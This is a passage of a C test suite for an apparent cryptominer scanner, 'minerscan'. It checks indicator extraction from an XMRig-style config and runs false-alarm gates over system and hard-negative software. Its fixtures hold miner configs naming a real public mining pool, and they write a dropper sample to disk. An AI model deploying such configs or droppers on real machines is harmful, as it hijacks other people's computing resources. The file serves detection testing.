             "   \"user\": \"%s\", \"pass\": \"rig7\", \"tls\": true},\n"
             "  {\"url\": \"backup.example.net:3333\", \"user\": \"%s\", \"pass\": \"x\"}\n ]\n}\n",
             addr, bad);
    char *dir = t_mkdtemp();
    char *path = t_write_str(dir, "config.json", text);
    t_result res;
    json_t *recs = scan(path, &res);
    json_t *rec = t_find_record(recs, path);
    cr_assert_not_null(rec, "%s", res.out);
    cr_assert(t_has_rule(rec, "xmrig_config_json"));
    json_t *iocs = json_object_get(rec, "iocs");
    cr_assert(json_is_object(iocs), "no iocs in %s", res.out);

    bool pool = false;
    size_t i;
    json_t *v;
    json_array_foreach(json_object_get(iocs, "pools"), i, v) pool |=
        !strcmp(json_string_value(v), "stratum+ssl://mine.example.net:443");
    cr_assert(pool, "pool missing: %s", res.out);

    size_t n_wallets = 0;
    json_array_foreach(json_object_get(iocs, "wallets"), i, v) {
        n_wallets++;
        cr_assert_str_eq(json_string_value(json_object_get(v, "coin")), "xmr");
        cr_assert_str_eq(json_string_value(json_object_get(v, "address")), addr,
                         "only the valid wallet is reported");
    }
    cr_assert_eq(n_wallets, 1);

    json_t *cfg = json_object_get(iocs, "config");
    cr_assert(json_is_object(cfg), "no iocs.config: %s", res.out);
    cr_assert_str_eq(json_string_value(json_object_get(cfg, "algo")), "rx/0");
    cr_assert_str_eq(json_string_value(json_object_get(cfg, "user")), addr);
    cr_assert_str_eq(json_string_value(json_object_get(cfg, "pass")), "rig7");
    cr_assert_eq(json_integer_value(json_object_get(cfg, "donate_level")), 1);
    cr_assert(json_is_true(json_object_get(cfg, "tls")));
    json_decref(recs);
    t_result_free(&res);
    free(path);
    t_rmtree(dir);
    free(dir);
}

/* ---- the false-alarm gate ---- */

/*
 * The release gate (issue 9): a clean machine gives no finding and no
 * limit. It scans what the servers miners love hold: the system trees, the
 * GPU libraries under /usr/local, the stock packages in apt's cache (each
 * unpacked in memory), and minerscan itself as installed, beside reports
 * it wrote of a tree that holds a miner. 0 malicious, 0 suspicious, 0
 * limit; damaged archives (the go source's deliberately broken test data)
 * are allowed, and almost everything must be read.
 */
Test(signatures, false_alarm_gate_on_this_machine, .timeout = 1500) {
    static const char *const trees[] = {"/usr/bin", "/usr/sbin", "/usr/lib", "/usr/share", "/usr/local",
                                        "/etc",     "/opt",      "/var/cache/apt/archives"};
    /* minerscan installed, and its reports of a miner */
    char *dir = t_mkdtemp(), *cmd = NULL, *inst = t_path(dir, "usr/local/bin");
    cr_assert(asprintf(&cmd, "mkdir -p '%s' && cp '%s' '%s/minerscan'", inst, t_minerscan_path(), inst) > 0);
    cr_assert_eq(system(cmd), 0);
    free(cmd);
    char *found = t_path(dir, "found");
    free(t_write_str(dir, "found/config.json",
                     "{\"pools\":[{\"url\":\"stratum+tcp://pool.supportxmr.com:3333\",\"user\":\"x\",\"pass\":\"x\"}],"
                     "\"donate-level\":1,\"randomx\":{\"1gb-pages\":true}}\n"));
    free(t_write_str(dir, "found/x.sh", t_dropper_sh));
    const char *fmts[] = {"jsonl", "sarif", "text"};
    for (int i = 0; i < 3; i++) {
        char name[32];
        snprintf(name, sizeof(name), "reports/out.%s", fmts[i]);
        char *out = t_write_str(dir, name, "");
        t_result r;
        cr_assert_eq(t_minerscan(&r, NULL, "-f", fmts[i], "-o", out, found, NULL), 0);
        cr_assert_eq(r.status, 1, "the report is of findings: %s", r.err);
        t_result_free(&r);
        free(out);
    }
    cr_assert(asprintf(&cmd, "rm -rf '%s'", found) > 0);
    cr_assert_eq(system(cmd), 0);
    free(cmd);

    const char *argv[24];
    size_t n = 0, present = 0;
    argv[n++] = t_minerscan_path();
    argv[n++] = "-j2";
    argv[n++] = "-f";
    argv[n++] = "jsonl";
    for (size_t i = 0; i < sizeof(trees) / sizeof(trees[0]); i++) {
        struct stat st;
        if (stat(trees[i], &st) == 0 && S_ISDIR(st.st_mode)) {
            argv[n++] = trees[i];
            present++;
        } else {
            fprintf(stderr, "false-alarm gate: %s is missing, not scanned\n", trees[i]);
        }
    }
    argv[n++] = dir;
    argv[n] = NULL;
    if (present == 0)
        cr_skip_test("false-alarm gate: none of the system trees exist");

    struct timespec t0, t1;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    t_result res;
    cr_assert_eq(t_run(argv, NULL, 1480, &res), 0);
    clock_gettime(CLOCK_MONOTONIC, &t1);
    double secs = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
    cr_assert_neq(res.status, 137, "the scan did not finish in 1480 s");
    json_t *recs = t_jsonl(res.out);
    cr_assert_not_null(recs, "output is not JSON Lines");
    json_t *sum = t_summary(recs);
    cr_assert_not_null(sum, "no summary record");
#define SUM(k) json_integer_value(json_object_get(sum, k))
    fprintf(stderr,
            "false-alarm gate: %lld objects (%lld files, %lld members), %lld malicious, %lld suspicious, "
            "%lld containing, %lld limits, %lld errors, %lld damaged, %lld skipped in %.1f s\n",
            (long long)SUM("objects"), (long long)SUM("files"), (long long)SUM("members"), (long long)SUM("malicious"),
            (long long)SUM("suspicious"), (long long)SUM("containing"), (long long)SUM("limits"),
            (long long)SUM("errors"), (long long)SUM("damaged"), (long long)SUM("skipped"), secs);
    size_t i;
    json_t *r;
    json_array_foreach(recs, i, r) {
        const char *v = verdict_of(r);
        if (v && strcmp(v, "clean") && strcmp(v, "skipped")) {
            fprintf(stderr, "  %s: %s", v, json_string_value(json_object_get(r, "path")));
            size_t k;
            json_t *h;
            json_array_foreach(json_object_get(r, "rules"), k, h)
                fprintf(stderr, " %s", json_string_value(json_object_get(h, "rule")));
            const char *why = json_string_value(json_object_get(r, "reason"));
            fprintf(stderr, "%s%s\n", why ? " - " : "", why ? why : "");
        }
    }
    /* a gate that scanned nothing proves nothing */
    cr_assert_geq(SUM("objects"), 1000, "only %lld objects scanned", (long long)SUM("objects"));
    cr_assert_leq(SUM("errors") * 1000, SUM("objects"), "%lld of %lld objects could not be read",
                  (long long)SUM("errors"), (long long)SUM("objects"));
    cr_assert_eq(SUM("malicious"), 0, "%lld malicious verdicts on a clean system", (long long)SUM("malicious"));
    cr_assert_eq(SUM("suspicious"), 0, "%lld suspicious verdicts on a clean system", (long long)SUM("suspicious"));
    cr_assert_eq(SUM("containing"), 0, "%lld archives flagged through a member", (long long)SUM("containing"));
    cr_assert_eq(SUM("limits"), 0, "%lld limit records on a clean system", (long long)SUM("limits"));
    /* the installed scanner and its reports were among them, and clean */
    char *bin = t_path(inst, "minerscan");
    json_t *self = t_find_record(recs, bin);
    cr_assert_null(self, "minerscan itself was reported: %s", self ? json_dumps(self, 0) : "");
#undef SUM
    json_decref(recs);
    t_result_free(&res);
    t_rmtree(dir);
    free(bin), free(inst), free(dir);
}

/* ---- the hard negatives (corpus-tools/hard-negatives.txt) ---- */

/* Software that holds what a miner holds without being one: the Debian
 * packages fetch.sh --hard-negatives-only unpacks under
 * $CACHE/minerscan-corpus/hard (tests/run-all.sh fetches them), and the
 * CUDA toolkit where this machine has one. A user scanning a GPU or build
 * server, a node operator, a password auditor must see no alarm at all. */
Test(signatures, false_alarm_hard_negatives, .timeout = 600) {
    const char *xdg = getenv("XDG_CACHE_HOME"), *home = getenv("HOME");
    char hard[4096];
    if (xdg && *xdg)
        snprintf(hard, sizeof(hard), "%s/minerscan-corpus/hard", xdg);
    else
        snprintf(hard, sizeof(hard), "%s/.cache/minerscan-corpus/hard", home ? home : "");
    struct stat st;
    if (stat(hard, &st) != 0 || !S_ISDIR(st.st_mode))
        cr_skip_test("hard negatives not fetched (%s): run corpus-tools/fetch.sh --hard-negatives-only", hard);
    const char *argv[24];
    size_t n = 0;
    argv[n++] = t_minerscan_path();
    argv[n++] = "-j2";
    argv[n++] = "-f";
    argv[n++] = "jsonl";
    argv[n++] = hard;
    glob_t gl;
    size_t ncuda = 0;
    if (glob("/usr/local/cuda*", 0, NULL, &gl) == 0) {
        for (size_t i = 0; i < gl.gl_pathc && n + 1 < sizeof(argv) / sizeof(argv[0]); i++) {
            struct stat ls;
            /* /usr/local/cuda is a symlink to a versioned tree: scan each tree once */
            if (lstat(gl.gl_pathv[i], &ls) == 0 && S_ISDIR(ls.st_mode)) {
                argv[n++] = gl.gl_pathv[i];
                ncuda++;
            }
        }
    }
    argv[n] = NULL;
    if (!ncuda)
        fprintf(stderr, "hard-negative gate: no /usr/local/cuda* on this machine, CUDA not scanned\n");

    struct timespec t0, t1;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    t_result res;
    cr_assert_eq(t_run(argv, NULL, 580, &res), 0);
    clock_gettime(CLOCK_MONOTONIC, &t1);
    globfree(&gl);
    double secs = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
    cr_assert_neq(res.status, 137, "the scan did not finish in 580 s");
    json_t *recs = t_jsonl(res.out);
    cr_assert_not_null(recs, "output is not JSON Lines");
    json_t *sum = t_summary(recs);
    cr_assert_not_null(sum, "no summary record");
    json_int_t objects = json_integer_value(json_object_get(sum, "objects"));
    json_int_t mal = json_integer_value(json_object_get(sum, "malicious"));
    json_int_t sus = json_integer_value(json_object_get(sum, "suspicious"));
    json_int_t errs = json_integer_value(json_object_get(sum, "errors"));
    json_int_t lim = json_integer_value(json_object_get(sum, "limits"));
    fprintf(stderr, "hard-negative gate: %lld objects (%zu CUDA trees), %lld malicious, %lld suspicious, %lld limits in %.1f s\n",
            (long long)objects, ncuda, (long long)mal, (long long)sus, (long long)lim, secs);
    size_t i;
    json_t *r;
    json_array_foreach(recs, i, r) {
        const char *v = verdict_of(r);
        if (v && (!strcmp(v, "malicious") || !strcmp(v, "suspicious"))) {
            fprintf(stderr, "  %s: %s", v, json_string_value(json_object_get(r, "path")));
            size_t k;
            json_t *h;
            json_array_foreach(json_object_get(r, "rules"), k, h)
                fprintf(stderr, " %s", json_string_value(json_object_get(h, "rule")));
            json_t *m = json_object_get(r, "model");
            if (json_is_object(m))
                fprintf(stderr, " model %.4f", json_number_value(json_object_get(m, "score")));
            fputc('\n', stderr);
        }
    }
    /* 78 packages hold some 3600 objects; far fewer means the fetch broke
     * and the gate would pass on nothing */
    cr_assert_geq(objects, 1000, "only %lld objects scanned under %s", (long long)objects, hard);
    cr_assert_leq(errs * 100, objects, "%lld of %lld objects could not be scanned", (long long)errs,
                  (long long)objects);
    cr_assert_eq(mal, 0, "%lld malicious verdicts on hard negatives", (long long)mal);
    cr_assert_eq(sus, 0, "%lld suspicious verdicts on hard negatives", (long long)sus);
    json_decref(recs);
    t_result_free(&res);
}
